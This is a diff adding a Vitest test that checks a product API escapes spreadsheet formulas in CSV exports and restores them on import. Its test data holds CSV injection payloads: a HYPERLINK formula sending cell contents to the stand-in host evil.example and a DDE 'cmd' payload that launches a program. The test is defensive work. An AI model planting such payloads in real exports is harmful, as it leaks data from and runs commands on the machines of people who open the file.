@@ -1,4 +1,5 @@
 import { randomUUID } from "node:crypto";
+import { parse } from "csv-parse/sync";
 import { afterAll, describe, expect, it } from "vitest";
 import { DELETE as categoryDelete, POST as categoryAdd, PUT as categoryUpdate } from "@/app/api/v1/products/category/route";
 import { POST as createProductRoute } from "@/app/api/v1/products/createProduct/route";
@@ -568,6 +569,40 @@ describe("CSV export and import", () => {
     });
     expect(imported.variants[0]!.sizes).toHaveLength(1);
     expect(imported.totalVariants).toBe(1);
+  });
+
+  it("a cell a spreadsheet would run as a formula is exported with a ' before it, and imported back as it was", async () => {
+    const user = await admin();
+    const product = await withVariant(user.token);
+    const name = `=HYPERLINK("https://evil.example/?leak="&A2,"Click") ${randomUUID().slice(0, 8)}`;
+    await db.product.update({
+      where: { id: product.id },
+      data: { name, description: "+1+cmd|' /C calc'!A0", details: ["@SUM(1+1)", "-2+3"] },
+    });
+    const text = await exported(user.token);
+    const [header, ...rest] = parse(text) as string[][];
+    const mine = rest.filter((cells) => cells[0] === product.id);
+    expect(mine).toHaveLength(3);
+    const cell = (cells: string[], column: string) => cells[header!.indexOf(column)];
+    for (const cells of mine) {
+      expect(cell(cells, "name")).toBe(`'${name}`);
+      expect(cell(cells, "description")).toBe("'+1+cmd|' /C calc'!A0");
+      expect(cell(cells, "details")).toBe("'@SUM(1+1) | -2+3");
+    }
+
+    const applied = await importCsv(
+      user.token,
+      [text.split("\n")[0], ...text.split("\n").filter((line) => line.startsWith(product.id))].join("\n"),
+      "apply",
+    );
+    expect(applied.body).toMatchObject({ success: true, applied: true, updated: 1, errors: [] });
+    expect(
+      await db.product.findUniqueOrThrow({ where: { id: product.id }, select: { name: true, description: true, details: true } }),
+    ).toEqual({
+      name,
+      description: "+1+cmd|' /C calc'!A0",
+      details: ["@SUM(1+1)", "-2+3"],
+    });
   });
 
   it("a dry run reports each row's errors by line number and nothing is applied", async () => {
